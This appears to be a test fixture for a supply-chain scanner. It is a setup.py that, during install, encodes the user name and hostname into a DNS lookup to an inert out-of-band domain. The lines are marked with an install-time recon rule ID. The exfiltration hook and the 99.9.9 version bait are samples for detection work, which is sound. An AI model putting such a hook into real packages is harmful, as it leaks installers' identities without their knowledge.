# canary-test: path=setup.py artifact=sdist
# DNS exfiltration: user and host encoded in a name that is looked up (inert domain).
import getpass
import socket
import subprocess

from setuptools import setup

# ruleid: INSTALL_TIME_RECON
q = f"{getpass.getuser()}.{socket.gethostname()}.oob.example.invalid"
# ruleid: INSTALL_TIME_RECON
subprocess.call(["sh", "-c", f"nslookup {q} >/dev/null 2>&1"])
setup(name="x", version="99.9.9")
